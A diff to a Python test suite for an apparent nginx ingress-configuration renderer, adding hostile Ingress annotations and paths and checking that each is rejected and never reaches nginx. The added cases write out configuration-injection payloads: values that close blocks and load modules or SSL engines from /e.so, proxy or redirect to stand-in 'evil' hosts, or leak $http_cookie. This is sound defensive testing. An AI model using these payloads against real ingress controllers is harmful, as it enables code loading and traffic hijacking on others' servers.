@@ -27,7 +27,7 @@ from support_nginx import (
 )
 from support_objects import endpoint_slice, ingress, path, rule, service, tls_secret
 
-from edgeagent import cli, manifests, model
+from edgeagent import cli, grammar, manifests, model
 
 GIXY = str(Path(sys.executable).with_name("gixy"))
 GOLDEN_SEMANTICS = Path(__file__).resolve().parent / "golden" / "semantics" / "input"
@@ -96,6 +96,112 @@ HOSTILE_INGRESSES = {
     ),
     "ssl-redirect-with-payload": annotated(
         "ssl", {NGINX_ANNOTATION + "ssl-redirect": "true; return 200"}
+    ),
+    "force-ssl-redirect-with-payload": annotated(
+        "force-ssl", {NGINX_ANNOTATION + "force-ssl-redirect": "true;\nload_module /e.so;"}
+    ),
+    "timeout-past-the-limit": annotated(
+        "timeout-limit", {NGINX_ANNOTATION + "proxy-send-timeout": "99999999999999999999"}
+    ),
+    "allowlist-with-directive": annotated(
+        "allow-directive",
+        {NGINX_ANNOTATION + "whitelist-source-range": "0.0.0.0/0; allow all; load_module /e.so"},
+    ),
+    "allowlist-newline-close": annotated(
+        "allow-close",
+        {NGINX_ANNOTATION + "allowlist-source-range": "10.0.0.0/8,\n}\nssl_engine /e.so;\n#"},
+    ),
+    "allowlist-unix-socket": annotated(
+        "allow-unix", {NGINX_ANNOTATION + "allowlist-source-range": "unix:"}
+    ),
+    "allowlist-ipv6-zone": annotated(
+        "allow-zone", {NGINX_ANNOTATION + "allowlist-source-range": "fe80::1%lo;deny all"}
+    ),
+    "denylist-with-variable": annotated(
+        "deny-variable", {NGINX_ANNOTATION + "denylist-source-range": "$remote_addr"}
+    ),
+    "denylist-close-and-load": annotated(
+        "deny-close", {NGINX_ANNOTATION + "denylist-source-range": "10.0.0.0/8" + CLOSE_AND_LOAD}
+    ),
+    "rewrite-target-variable": annotated(
+        "rewrite-variable", {NGINX_ANNOTATION + "rewrite-target": "/$request_body"}
+    ),
+    "rewrite-target-redirect": annotated(
+        "rewrite-redirect", {NGINX_ANNOTATION + "rewrite-target": "https://evil.example/$1"}
+    ),
+    "rewrite-target-close": annotated(
+        "rewrite-close",
+        {NGINX_ANNOTATION + "rewrite-target": "/$1 break; } location /x { return 200 x; #"},
+    ),
+    "use-regex-payload": annotated(
+        "use-regex", {NGINX_ANNOTATION + "use-regex": "true;\nload_module /e.so;"}
+    ),
+    "regex-path-escaped-quote": with_field(
+        "regex-quote",
+        lambda o: (
+            o["metadata"].update(annotations={NGINX_ANNOTATION + "use-regex": "true"}),
+            first_path(o).update(path='/a\\"; } load_module /e.so; location ~ "/'),
+        ),
+    ),
+    "regex-path-trailing-backslash": with_field(
+        "regex-backslash",
+        lambda o: (
+            o["metadata"].update(annotations={NGINX_ANNOTATION + "rewrite-target": "/$1"}),
+            first_path(o).update(path="/(.*)\\"),
+        ),
+    ),
+    "regex-path-newline": with_field(
+        "regex-newline",
+        lambda o: (
+            o["metadata"].update(annotations={NGINX_ANNOTATION + "use-regex": "true"}),
+            first_path(o).update(path="/(a)" + NEWLINE_DIRECTIVE),
+        ),
+    ),
+    "regex-path-posix-class": with_field(
+        "regex-posix",
+        lambda o: (
+            o["metadata"].update(annotations={NGINX_ANNOTATION + "use-regex": "true"}),
+            first_path(o).update(path="/[[.a.]]", pathType="ImplementationSpecific"),
+        ),
+    ),
+    "regex-path-nested-too-deep": with_field(
+        "regex-deep",
+        lambda o: (
+            o["metadata"].update(annotations={NGINX_ANNOTATION + "use-regex": "true"}),
+            first_path(o).update(path="/" + "(" * 300 + "a" + ")" * 300),
+        ),
+    ),
+    "proxy-buffering-payload": annotated(
+        "buffering", {NGINX_ANNOTATION + "proxy-buffering": "off; proxy_pass http://evil"}
+    ),
+    "proxy-buffer-size-payload": annotated(
+        "buffer-size", {NGINX_ANNOTATION + "proxy-buffer-size": "4k;\n} load_module /e.so; #"}
+    ),
+    "proxy-buffer-size-huge": annotated(
+        "buffer-huge", {NGINX_ANNOTATION + "proxy-buffer-size": "999999999g"}
+    ),
+    "proxy-buffers-number-payload": annotated(
+        "buffers-number", {NGINX_ANNOTATION + "proxy-buffers-number": "8 8k; root /"}
+    ),
+    "proxy-http-version-payload": annotated(
+        "http-version", {NGINX_ANNOTATION + "proxy-http-version": "1.1;\nssl_engine /e.so;"}
+    ),
+    "backend-protocol-payload": annotated(
+        "backend-protocol",
+        {NGINX_ANNOTATION + "backend-protocol": "HTTPS://evil;\n} load_module /e.so; #"},
+    ),
+    "temporal-redirect-variable": annotated(
+        "temporal", {NGINX_ANNOTATION + "temporal-redirect": "https://x/$http_cookie"}
+    ),
+    "permanent-redirect-code-payload": annotated(
+        "redirect-code",
+        {
+            NGINX_ANNOTATION + "permanent-redirect": "/p",
+            NGINX_ANNOTATION + "permanent-redirect-code": "301 https://evil; #",
+        },
+    ),
+    "app-root-payload": annotated(
+        "app-root", {NGINX_ANNOTATION + "app-root": "/x;\n}\nload_module /e.so;\nserver {"}
     ),
     "f5-snippet": annotated("f5", {"nginx.org/location-snippets": "root /;"}),
     "cve-2022-4886-path-alias": with_field(
@@ -207,12 +313,13 @@ def test_each_hostile_ingress_is_skipped_with_a_reason(case):
     built = model.build(model.Inputs(ingresses=[hostile]), model.Options())
     assert built.served_ingresses == ()
     assert built.servers == ()
-    (problem,) = built.problems
-    assert problem.kind == "Ingress"
-    assert problem.code in ("invalid", "unsupported")
-    assert "\n" not in problem.reason and len(problem.reason) < 700
-    for word in ("load_module /e.so", "ssl_engine /"):
-        assert word not in problem.name + problem.namespace
+    assert {problem.code for problem in built.problems} <= {"invalid", "unsupported"}
+    assert built.problems
+    for problem in built.problems:
+        assert problem.kind == "Ingress"
+        assert "\n" not in problem.reason and len(problem.reason) < 700
+        for word in ("load_module /e.so", "ssl_engine /"):
+            assert word not in problem.name + problem.namespace
 
 
 @pytest.fixture(scope="module", params=["static", "dynamic"])
@@ -234,9 +341,11 @@ def hostile_site(request, tmp_path_factory, good_pair):
 
 def test_everything_else_keeps_serving(hostile_site):
     assert hostile_site.model.served_ingresses == (("default", "good"),)
-    answer = request(hostile_site.ports.http, "good.example.com", "/x")
+    answer = request(hostile_site.ports.https, "good.example.com", "/x", tls=True)
     assert (answer.status, answer.backend) == (200, "app")
-    assert request(hostile_site.ports.http, "good.example.com", "/bad-port").status == 503
+    assert request(hostile_site.ports.http, "good.example.com", "/x").status == 308  # TLS host
+    bad_port = request(hostile_site.ports.https, "good.example.com", "/bad-port", tls=True)
+    assert bad_port.status == 503
     tls = request(hostile_site.ports.https, "poisoned.example.com", tls=True)
     assert (tls.status, tls.backend) == (200, "app")
 
@@ -267,12 +376,12 @@ def test_no_injected_directive_reaches_nginx(hostile_site):
         assert b"load_module" not in data and b"ssl_engine" not in data, relative
 
 
-def plain_http_ports() -> Ports:
-    """Free ports whose plain HTTP and status ports have no "443" in them: gixy takes any
-    listen that does (a random 14430, say) for TLS, and then misses HSTS there."""
+def ports_without_443() -> Ports:
+    """Free ports none of which has "443" in it: gixy's hsts_header check takes any listen
+    that does (a random 14430, say) for TLS, so the scan would depend on the draw."""
     while True:
         ports = Ports.free()
-        if "443" not in f"{ports.http} {ports.status}":
+        if "443" not in f"{ports.http} {ports.https} {ports.status}":
             return ports
 
 
@@ -281,7 +390,7 @@ def test_gixy_finds_nothing(tmp_path, mode):
     """gixy-ng, the nginx security scanner, on a rendered configuration that uses every
     feature (TLS hosts, redirects, wildcards, rules without host, catch-all)."""
     inputs, _ = manifests.load([GOLDEN_SEMANTICS])
-    site = render_site(tmp_path, inputs, ports=plain_http_ports(), dynamic_mode=mode == "dynamic")
+    site = render_site(tmp_path, inputs, ports=ports_without_443(), dynamic_mode=mode == "dynamic")
     assert nginx_test(tmp_path).returncode == 0
     scan = subprocess.run(
         [GIXY, "--format", "json", str(tmp_path / "nginx.conf")],
@@ -310,6 +419,21 @@ def test_values_at_their_grammar_limits_are_accepted_by_nginx(tmp_path, good_pai
                 rule("*." + ".".join([label, label, "c" * 61]), path("/", service_name, "h" * 15)),
                 namespace=namespace,
                 tls=[{"hosts": [long_host], "secretName": long_name}],
+                annotations={
+                    NGINX_ANNOTATION + "proxy-read-timeout": str(grammar.SECONDS_MAX),
+                    NGINX_ANNOTATION + "proxy-body-size": "999999999g",
+                    NGINX_ANNOTATION + "proxy-buffer-size": "1m",
+                    NGINX_ANNOTATION + "proxy-buffers-number": str(grammar.BUFFERS_NUMBER_MAX),
+                    NGINX_ANNOTATION + "proxy-buffering": "off",
+                    NGINX_ANNOTATION + "proxy-request-buffering": "off",
+                    NGINX_ANNOTATION + "proxy-http-version": "1.0",
+                    NGINX_ANNOTATION + "allowlist-source-range": ",".join(
+                        f"10.{i // 256}.{i % 256}.0/24" for i in range(grammar.SOURCE_RANGES_MAX)
+                    ),
+                    NGINX_ANNOTATION + "denylist-source-range": (
+                        "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff/128, ::/0"
+                    ),
+                },
             )
         ],
         services=[service(service_name, {"h" * 15: 65535}, namespace=namespace)],
@@ -324,10 +448,26 @@ def test_values_at_their_grammar_limits_are_accepted_by_nginx(tmp_path, good_pai
         ],
         secrets=[tls_secret(long_name, good_pair, namespace=namespace)],
     )
+    # Regexes at the edges of what the grammar lets through: PCRE must take them all.
+    regexes = [
+        "/" + "(" * grammar.REGEX_DEPTH_MAX + "a" + ")" * grammar.REGEX_DEPTH_MAX,
+        f"/a{{1,{grammar.REGEX_REPEAT_MAX}}}(/|$)(.*)",
+        "/[]a][^]b]\\.\\-\\/\\d\\D\\w\\W\\s\\S\\(\\)\\[\\]\\{\\}\\*\\+\\?\\|\\^\\$",
+        "/(?:x|y)*+z?+{}{,}$^",
+        "/" + "b" * (grammar.PATH_MAX_LENGTH - 1),
+    ]
+    inputs.ingresses.append(
+        ingress(
+            "regexes",
+            rule("regex.example.com", *(path(regex, service_name, 65535) for regex in regexes)),
+            namespace=namespace,
+            annotations={NGINX_ANNOTATION + "rewrite-target": "/$9$1/" + "c" * 2000},
+        )
+    )
     assert len(long_host) == len(long_name) == 253
     site = render_site(tmp_path, inputs)
     assert site.model.problems == ()
-    assert len(site.model.servers) == 2
+    assert len(site.model.servers) == 3
     tested = nginx_test(tmp_path)
     assert tested.returncode == 0, tested.stderr
     assert_only_rendered_directives(tmp_path / "nginx.conf")
